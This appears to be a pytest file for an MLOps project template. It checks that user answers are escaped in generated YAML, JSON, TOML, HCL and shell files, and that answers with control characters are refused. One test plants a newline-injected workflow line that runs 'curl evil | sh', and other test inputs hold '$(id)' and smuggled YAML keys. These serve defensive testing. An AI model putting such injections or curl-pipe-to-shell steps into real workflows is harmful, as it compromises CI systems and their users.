"""Answers are data, never code (issue 15).

- The escaping audit: render with adversarial but *valid* answers, parse every generated file in
  its own language and read each answer back unchanged where it is a value.
- The refused-answers corpus: newline, CR, tab, NUL, U+202E and a trailing newline on every rule,
  refused by the options model, by raw copier and by `mlops-scaffold new`, one line, nothing written.
- The answers_escaped check fails on a planted raw interpolation.
- Every `{{ }}` of an answer in template/ goes through a jinja/escape.jinja helper, unless the
  answer's rule limits it to identifier characters.
"""

from __future__ import annotations

import json
import py_compile
import re
import shutil
import subprocess
from pathlib import Path

import copier

try:
    import tomllib
except ModuleNotFoundError:  # Python 3.10
    import tomli as tomllib
import pytest
import yaml
from conftest import REPO_ROOT, answers_with, every_target, require, target_questions

from mlops_scaffold import cli, naming
from mlops_scaffold.checks import ALL_CHECKS
from mlops_scaffold.checks.answers import IDENTIFIER_ANSWERS, answers_escaped
from mlops_scaffold.checks.rendering import leftover_jinja
from mlops_scaffold.deployment_environments import SINGLE, environments_of
from mlops_scaffold.options import QUESTIONS, QUESTIONS_BY_NAME, resolve_answers
from mlops_scaffold.project_files import iter_files
from mlops_scaffold.render import render_project

# Valid answers chosen to break naive interpolation: quotes, backslash, `#`, `: `, `$(…)`, `${…}`,
# `%{…}`, `{{ }}`, a leading `- `, YAML's null/yes/no/on/off/true and the float 1.10.
PROJECT_NAME = 'Demo "q" \\ # x: $(id) ${HOME} %{y} {{ z }} - null é'
COMMON = {
    "project_name": PROJECT_NAME,
    "base_name": "demo1",
    "resource_group": "1.10",
    "workspace_name": "null",
    "experiment_name": "1.10",
    "model_name": "yes",
}
ADO = {
    "ci_platform": "azure_devops",
    "variable_group_name": "- null",
    "azure_rm_svc_connection": "yes",
    "workspace_svc_connection": "1.10",
}
# Every target, each of its resource names one of YAML's null/no/off/true/yes/on in turn.
YAML_WORDS = ("null", "no", "off", "true", "yes", "on")
TARGET_NAMES = [question.name for target in every_target() for question in target_questions(target)]
TARGETS = {
    "deployment_targets": every_target(),
    **{name: YAML_WORDS[index % len(YAML_WORDS)] for index, name in enumerate(TARGET_NAMES)},
}
# Between them, every file the template can write (both CI platforms, both IaC flavours, R both ways).
ADVERSARIAL = {
    "ado-arm": {**COMMON, **ADO, **TARGETS, "iac": "arm", "r_training": "databricks", "databricks_compute_name": "on"},
    "ado-tf": {**COMMON, **ADO, **TARGETS, "iac": "terraform", "r_training": "aml", "canary_release": True},
    "gha-tf": {**COMMON, "ci_platform": "github_actions", **TARGETS, "iac": "terraform", "r_training": "databricks"},
    # `(` `)`: a resource group name bash would refuse unquoted in the docs' commands
    "gha-arm": {**COMMON, "ci_platform": "github_actions", **TARGETS, "iac": "arm", "resource_group": "rg(1.10)"},
    # each environment's files, groups, jobs and docs (ADR 28): the same answers, suffixed
    "ado-tf-environments": {**COMMON, **ADO, **TARGETS, "iac": "terraform", "environments": "dev_test_prod"},
    "gha-arm-environments": {
        **COMMON,
        "ci_platform": "github_actions",
        **TARGETS,
        "iac": "arm",
        "resource_group": "rg(1.10)",
        "environments": "dev_prod",
    },
}


@pytest.fixture(scope="module", params=sorted(ADVERSARIAL))
def adversarial(request, template_snapshot, tmp_path_factory) -> tuple[Path, dict]:
    answers = resolve_answers(ADVERSARIAL[request.param])
    dest = tmp_path_factory.mktemp(f"adversarial-{request.param}") / "project"
    return render_project(dest, answers, template=template_snapshot), answers


def _parse(path: Path):
    """The file parsed in its own language; raises when it does not parse."""
    text = path.read_text(encoding="utf-8")
    if path.suffix in (".yml", ".yaml"):
        return list(yaml.safe_load_all(text))
    if path.suffix == ".json":
        return json.loads(text)
    if path.suffix == ".toml":
        return tomllib.loads(text)
    if path.suffix in (".tf", ".tfvars"):
        import hcl2

        return hcl2.loads(text)
    if path.suffix == ".py":
        py_compile.compile(str(path), cfile=str(path) + ".pyc-check", doraise=True)
        Path(str(path) + ".pyc-check").unlink()
        return None
    if path.suffix == ".sh":
        result = subprocess.run(["bash", "-n", str(path)], capture_output=True, text=True)
        assert result.returncode == 0, f"{path}: {result.stderr}"
    return None


def test_every_generated_file_parses_in_its_own_language(adversarial):
    require(shutil.which("bash"), "bash")
    project, _ = adversarial
    languages = (".yml", ".yaml", ".json", ".toml", ".tf", ".tfvars", ".py", ".sh")
    parsed = [path for path in iter_files(project) if path.suffix in languages]
    assert len(parsed) > 40
    for path in parsed:
        try:
            _parse(path)
        except Exception as error:  # the message names the file
            pytest.fail(f"{path.relative_to(project)} does not parse: {error}")


def test_the_escaping_check_passes_on_adversarial_answers(adversarial):
    project, _ = adversarial
    assert answers_escaped(project) == []
    # `{{ z }}` in project_name is data: not a leftover Jinja marker (it was before).
    assert leftover_jinja(project) == []


def _hcl_value(path: Path, key: str) -> str:
    import hcl2

    data = hcl2.loads(path.read_text(encoding="utf-8"))
    # backend.tf nests it: terraform { backend "azurerm" { key = … } }
    value = data[key] if key in data else data["terraform"][0]["backend"][0]['"azurerm"'][key]
    # python-hcl2 keeps a string literal's quotes and escapes: decode it as the JSON it is.
    return json.loads(value.replace("$${", "${").replace("%%{", "%{"))


def test_answers_come_back_unchanged_where_they_are_values(adversarial):
    require(shutil.which("make") and shutil.which("bash"), "make and bash")
    project, answers = adversarial
    pyproject = tomllib.loads((project / "pyproject.toml").read_text())
    assert pyproject["project"]["description"] == f"{PROJECT_NAME}: ML code and Azure ML orchestration"
    setup = project / "environment_setup"
    # the project's inputs, or the last environment's (its names are the answers, suffixed)
    environments = [environment.name for environment in environments_of(answers.get("environments", SINGLE))]
    suffix = f"-{environments[-1]}" if environments else ""
    group = answers["resource_group"] + suffix
    if answers["iac"] == "arm":
        arm = json.loads((setup / "arm-templates/cloud-environment.json").read_text())
        assert arm["metadata"]["description"].startswith(f"Azure resources of {PROJECT_NAME}. ")
        inputs = (
            f"cloud-environment.{environments[-1]}.parameters.json"
            if environments
            else "cloud-environment.parameters.json"
        )
        parameters = json.loads((setup / "arm-templates" / inputs).read_text())["parameters"]
        assert parameters["workspaceName"]["value"] == "null" + suffix
    else:
        tf = setup / "tf-templates"
        tfvars, backend = (
            (f"{environments[-1]}.tfvars", f"{environments[-1]}.tfbackend")
            if environments
            else ("terraform.tfvars", "backend.tf")
        )
        assert _hcl_value(tf / tfvars, "resource_group_name") == group
        assert _hcl_value(tf / tfvars, "workspace_name") == "null" + suffix
        assert _hcl_value(tf / backend, "resource_group_name") == group
    sample = answers["sample_name"]
    if answers["ci_platform"] == "azure_devops":
        ci = yaml.safe_load((project / f".pipelines/{sample}-ci.yml").read_text())
        assert {"group": "- null"} in ci["variables"]
        shared = yaml.safe_load((project / ".pipelines/variables-template.yml").read_text())["variables"]
        values = {row["name"]: row["value"] for row in shared}
        assert all(isinstance(value, str) for value in values.values()), values
        script = setup / "create-variable-group.sh"
        printed = subprocess.run(
            [
                "bash",
                "-c",
                # the shared group's name and entries, as the script's first sync_group call passes them
                'sync_group() { printf "%s\\n" "$1"; shift 2; printf "%s\\n" "$@"; }; '
                f'eval "$(sed -n "/^shared=(/,/^)/p" {script})"; eval "$(grep -m1 "^sync_group " {script})"',
            ],
            capture_output=True,
            text=True,
            check=True,
        ).stdout.splitlines()
        assert printed[0] == "- null"
        if environments:  # the last environment's group: its name and entries
            last = environments[-1]
            printed = subprocess.run(
                [
                    "bash",
                    "-c",
                    'sync_group() { printf "%s\\n" "$1"; shift 2; printf "%s\\n" "$@"; }; '
                    f'eval "$(sed -n "/^{last}=(/,/^)/p" {script})"; eval "$(grep "^sync_group .*{last}\\[" {script})"',
                ],
                capture_output=True,
                text=True,
                check=True,
            ).stdout.splitlines()
            assert printed[0] == f"- null-{last}"
        assert f"RESOURCE_GROUP|{group}|false" in printed and f"AZURE_RM_SVC_CONNECTION|yes{suffix}|false" in printed
    else:
        env = yaml.safe_load((project / f".github/workflows/{sample}-ci.yml").read_text())["env"]
        assert env["EXPERIMENT_NAME"] == "1.10" and env["MODEL_NAME"] == "yes"
        if environments:  # the typed confirmation is compared with the last environment's group
            remove = yaml.safe_load((project / ".github/workflows/iac-remove-environment.yml").read_text())
            condition = remove["jobs"][f"remove-{environments[-1]}"]["if"]
            assert f"inputs.confirm_resource_group == '{group}'" in condition
        first = (project / ".github/workflows/iac-create-environment.yml").read_text().splitlines()[0]
        assert first.startswith("# ") and PROJECT_NAME in first
    make = subprocess.run(
        [
            "make",
            "-s",
            "--no-print-directory",
            "--eval=_print: ; @printf '%s|%s\\n' '$(MODEL_NAME)' '$(EXPERIMENT_NAME)'",
            "_print",
        ],
        cwd=project,
        capture_output=True,
        text=True,
    )
    assert make.stdout.strip() == "yes|1.10", make.stderr
    heading = (project / "README.md").read_text().splitlines()[0]
    assert heading.startswith("# Demo ") and "\\#" in heading  # the `#` cannot start anything


# --- refused answers -------------------------------------------------------------------------

BAD_CHARACTERS = {"newline": "\n", "cr": "\r", "tab": "\t", "nul": "\x00", "rlo": "\u202e", "line-separator": "\u2028"}
# A valid answer per text question, and what makes it apply.
VALID = {
    "project_name": ("Churn", {}),
    "sample_name": ("churn_model", {}),
    "base_name": ("abc123", {}),
    "location": ("westeurope", {}),
    "resource_group": ("rg-1", {}),
    "workspace_name": ("ws-1", {}),
    "variable_group_name": ("my vg", {"ci_platform": "azure_devops"}),
    "azure_rm_svc_connection": ("arm-conn", {"ci_platform": "azure_devops"}),
    "workspace_svc_connection": ("ws-conn", {"ci_platform": "azure_devops"}),
    # each target's resource names: the default of a project that chose it
    **{
        question.name: (
            question.default_for(answers_with(deployment_targets=[target])),
            {"deployment_targets": [target]},
        )
        for target in every_target()
        for question in target_questions(target)
    },
    "db_cluster_id": ("0123-456789-abcdefgh", {"r_training": "databricks"}),
    "databricks_compute_name": ("dbx", {"r_training": "databricks"}),
    "experiment_name": ("exp.v2", {}),
    "model_name": ("churn-model", {}),
}


def test_the_corpus_covers_every_text_question():
    text_questions = {q.name for q in QUESTIONS if q.type == "str" and not q.choices}
    assert set(VALID) == text_questions
    assert all(QUESTIONS_BY_NAME[name].problem(value) is None for name, (value, _) in VALID.items())


def _corpus() -> list[tuple[str, str, dict]]:
    cases = [(name, value + "\n", overrides) for name, (value, overrides) in VALID.items()]  # trailing newline
    cases += [(name, "\n" + value, overrides) for name, (value, overrides) in VALID.items()]
    for character in BAD_CHARACTERS.values():
        cases.append(("project_name", f"Demo{character}name", {}))
    cases.append(("project_name", "\n\n\n", {}))
    cases.append(("project_name", 'Demo\ndefaults: {run: {shell: "sh"}} #', {"ci_platform": "github_actions"}))
    cases.append(("resource_group", "rg\t1", {}))
    cases.append(("experiment_name", "exp\u202e1", {}))
    return cases


CORPUS = _corpus()
IDS = [f"{name}={value!r}"[:40] for name, value, _ in CORPUS]


@pytest.mark.parametrize("name, value, overrides", CORPUS, ids=IDS)
def test_the_options_model_refuses_it_with_the_control_message(name, value, overrides):
    assert QUESTIONS_BY_NAME[name].problem(value) == naming.CONTROL_MESSAGE


@pytest.mark.parametrize("name, value, overrides", CORPUS, ids=IDS)
def test_raw_copier_refuses_it_and_writes_nothing(name, value, overrides, template_snapshot, tmp_path):
    answers = answers_with(**overrides)
    answers[name] = value
    with pytest.raises(ValueError) as raised:
        copier.run_copy(str(template_snapshot), tmp_path / "dest", data=answers, defaults=True, quiet=True)
    assert f"{name}: {naming.CONTROL_MESSAGE}" in str(raised.value)
    assert not (tmp_path / "dest").exists()


@pytest.mark.parametrize("name, value, overrides", CORPUS, ids=IDS)
def test_new_refuses_it_with_one_line_and_writes_nothing(name, value, overrides, tmp_path, capsys):
    dest = tmp_path / "dest"
    data = [f"{key}={json.dumps(item) if isinstance(item, list) else item}" for key, item in overrides.items()]
    argv = ["new", str(dest), "--defaults", *[arg for pair in data for arg in ("-d", pair)], "-d", f"{name}={value}"]
    assert cli.main(argv) == 2
    error = capsys.readouterr().err
    assert error == f"mlops-scaffold: {name}: {naming.CONTROL_MESSAGE}\n"
    assert not dest.exists()


def test_a_trailing_newline_breaks_every_rule_on_its_own():
    """Before: Python's `$` matched before a final newline, so every rule accepted "valid\\n"."""
    for name, (value, _) in VALID.items():
        rule = QUESTIONS_BY_NAME[name].rule
        if rule is not None:
            assert rule.check(value) is None, name
            assert rule.check(value + "\n") is not None, name


def test_project_name_keeps_quotes_backslashes_and_unicode():
    assert QUESTIONS_BY_NAME["project_name"].problem(PROJECT_NAME) is None
    assert QUESTIONS_BY_NAME["project_name"].problem("   ") is not None


# --- the check ------------------------------------------------------------------------------


def test_answers_escaped_is_registered():
    assert answers_escaped in ALL_CHECKS


def test_answers_escaped_names_an_unquoted_answer_in_yaml(render_copy):
    project = render_copy(ci_platform="azure_devops")
    answers = resolve_answers(answers_with(ci_platform="azure_devops"))
    pipeline = project / f".pipelines/{answers['sample_name']}-ci.yml"
    group = answers["variable_group_name"]
    text = pipeline.read_text()
    assert f'- group: "{group}"' in text
    pipeline.write_text(text.replace(f'- group: "{group}"', f"- group: {group}"))
    line = next(n for n, row in enumerate(pipeline.read_text().splitlines(), 1) if row.strip() == f"- group: {group}")
    findings = [str(finding) for finding in answers_escaped(project)]
    assert findings == [
        f".pipelines/{answers['sample_name']}-ci.yml:{line}: the answer variable_group_name is a plain YAML scalar: "
        "quote it with yaml_str (jinja/escape.jinja)"
    ]


def test_answers_escaped_names_a_project_name_that_breaks_toml(render_copy):
    """Before: `"` in project_name broke pyproject.toml and `check` did not parse TOML."""
    project = render_copy()
    pyproject = project / "pyproject.toml"
    text = pyproject.read_text()
    pyproject.write_text(re.sub(r"^description = .*$", 'description = "Say "hi": ML code"', text, flags=re.M))
    findings = [str(finding) for finding in answers_escaped(project)]
    assert len(findings) == 1 and findings[0].startswith("pyproject.toml: is not valid TOML"), findings


def test_answers_escaped_names_the_key_a_newline_in_project_name_injected(render_copy):
    """Before: a newline in project_name put `defaults: {run: {shell: …}}` at column 0 of both IaC
    workflows and `mlops-scaffold check` did not name it. Planted as an old rendering would have it."""
    project = render_copy(ci_platform="github_actions", iac="terraform")
    injected = 'defaults: {run: {shell: "curl evil | sh {0}"}} #'
    answers_file = project / ".copier-answers.yml"
    answers = yaml.safe_load(answers_file.read_text())
    name = answers["project_name"]
    answers["project_name"] = f"{name}\n{injected}"
    answers_file.write_text(yaml.safe_dump(answers))
    workflow = project / ".github/workflows/iac-create-environment.yml"
    workflow.write_text(workflow.read_text().replace(f"of {name} ", f"of {name}\n{injected} ", 1))
    findings = [str(finding) for finding in answers_escaped(project)]
    line = injected + " from environment_setup/tf-templates."
    where = ".github/workflows/iac-create-environment.yml:2"
    assert findings == [f"{where}: line injected by the answer project_name: {line!r}"]


def test_answers_escaped_names_a_json_file_that_does_not_parse(render_copy):
    project = render_copy(iac="arm")
    arm = project / "environment_setup/arm-templates/cloud-environment.json"
    arm.write_text(arm.read_text().replace("Azure resources of ", 'Azure resources of "', 1))
    findings = [str(finding) for finding in answers_escaped(project)]
    assert len(findings) == 1, findings
    assert re.match(r"environment_setup/arm-templates/cloud-environment\.json:\d+: is not valid JSON", findings[0])


def test_answers_escaped_names_a_shell_script_that_does_not_parse(render_copy):
    require(shutil.which("bash"), "bash")
    project = render_copy(ci_platform="azure_devops")
    script = project / "environment_setup/create-variable-group.sh"
    script.write_text(script.read_text().replace("group=", 'group="unterminated', 1))
    findings = [str(finding) for finding in answers_escaped(project)]
    assert len(findings) == 1 and "create-variable-group.sh" in findings[0] and "not valid shell" in findings[0]


def test_answers_escaped_names_a_markdown_shell_block_that_does_not_parse(render_copy):
    """Planted defect: an answer pasted into the docs' commands unquoted."""
    require(shutil.which("bash"), "bash")
    project = render_copy(resource_group="rg(1)")
    doc = project / "docs/infrastructure.md"
    text = doc.read_text()
    assert "az group delete --name 'rg(1)' --yes" in text
    doc.write_text(text.replace("az group delete --name 'rg(1)' --yes", "az group delete --name rg(1) --yes"))
    findings = [str(finding) for finding in answers_escaped(project)]
    assert len(findings) == 1, findings
    assert re.match(r"docs/infrastructure\.md:\d+: is not valid shell in Markdown: syntax error", findings[0])
    line = int(findings[0].split(":")[1])
    assert doc.read_text().splitlines()[line - 1] == "az group delete --name rg(1) --yes"


# --- the template: every answer site goes through a helper ---------------------------------

ESCAPE_FILE = REPO_ROOT / "jinja" / "escape.jinja"
HELPERS = re.findall(r"macro (\w+)\(", ESCAPE_FILE.read_text())
_EXPRESSION = re.compile(r"\{\{(.*?)\}\}", re.S)


def _answer_names(expression: str) -> set[str]:
    names = {q.name for q in QUESTIONS if re.search(rf"\b{q.name}\b", expression)}
    if re.search(r"\bvariable\.value\b|\bvar\(", expression):
        names.add("pipeline variable")
    return names


SPECIALS = " \"'\\#:$`{}[]()<>|&;*?!%=,@+~^/"


def _name_safe(name: str) -> bool:
    """The rule refuses every character a language acts on: only [-A-Za-z0-9_.] remain."""
    valid = VALID[name][0] if name in VALID else "3.11"
    return all(QUESTIONS_BY_NAME[name].problem(valid + character) is not None for character in SPECIALS)


def _safe_without_helper(name: str) -> bool:
    """Closed choices, and answers whose rule leaves only name characters, can be composed into
    names, paths and quoted strings unescaped (as a whole YAML value they still need yaml_str:
    `yes` or `1.10` would change type, which the render check and the audit above catch)."""
    question = QUESTIONS_BY_NAME.get(name)
    if question is None:
        return False
    return bool(question.choices) or question.type == "bool" or _name_safe(name)


def test_every_answer_in_the_template_goes_through_a_helper():
    assert set(HELPERS) >= {"yaml_str", "json_str", "toml_str", "hcl_str", "sh_word", "py_str", "md_text", "comment"}
    raw = []
    for path in sorted((REPO_ROOT / "template").rglob("*.jinja")):
        if re.sub(r"\{%.*?%\}", "", path.name).endswith(".md.jinja"):
            continue  # Markdown: answers sit in code spans; project_name in prose uses md_text (below)
        text = path.read_text(encoding="utf-8")
        for match in _EXPRESSION.finditer(text):
            expression = match.group(1)
            if any(re.search(rf"\b{helper}\(", expression) for helper in HELPERS) or "tojson" in expression:
                continue
            unsafe = {name for name in _answer_names(expression) if not _safe_without_helper(name)}
            unsafe.discard("pipeline variable") if "| int" in expression else None
            if unsafe:
                line = text.count("\n", 0, match.start()) + 1
                raw.append(f"{path.relative_to(REPO_ROOT)}:{line}: {{{{{expression}}}}} ({', '.join(sorted(unsafe))})")
    assert raw == [], "answers interpolated without an escaping helper:\n" + "\n".join(raw)


_MARKDOWN_SHELL = re.compile(r"^[ \t]*```(?:bash|sh|shell)[ \t]*\n(.*?)^[ \t]*```", re.M | re.S)


def test_every_answer_in_a_markdown_shell_block_is_a_shell_word():
    """A reader pastes these commands: `az group delete --name rg(1)` would be a syntax error."""
    raw = []
    for path in sorted((REPO_ROOT / "template").rglob("*.jinja")):
        if not re.sub(r"\{%.*?%\}", "", path.name).endswith(".md.jinja"):
            continue
        text = path.read_text(encoding="utf-8")
        for block in _MARKDOWN_SHELL.finditer(text):
            for match in _EXPRESSION.finditer(block.group(1)):
                expression = match.group(1)
                if re.search(r"\bsh_word\(", expression):
                    continue
                unsafe = {name for name in _answer_names(expression) if not _safe_without_helper(name)}
                if unsafe:
                    line = text.count("\n", 0, block.start(1) + match.start()) + 1
                    raw.append(
                        f"{path.relative_to(REPO_ROOT)}:{line}: {{{{{expression}}}}} ({', '.join(sorted(unsafe))})"
                    )
    assert raw == [], "answers in Markdown shell blocks without sh_word:\n" + "\n".join(raw)


def test_project_name_in_markdown_goes_through_md_text_or_sh_word():
    for path in sorted((REPO_ROOT / "template").rglob("*.jinja")):
        if not re.sub(r"\{%.*?%\}", "", path.name).endswith(".md.jinja"):
            continue
        for match in _EXPRESSION.finditer(path.read_text(encoding="utf-8")):
            if "project_name" in match.group(1):
                assert re.search(r"\b(md_text|sh_word)\(", match.group(1)), f"{path}: {match.group(0)}"


def test_identifier_answers_cannot_hold_a_character_any_language_acts_on():
    """The answers the render check lets stand as plain YAML scalars: names and nothing else."""
    assert all(_name_safe(name) for name in IDENTIFIER_ANSWERS)
    assert not _name_safe("project_name") and not _name_safe("variable_group_name") and not _name_safe("resource_group")
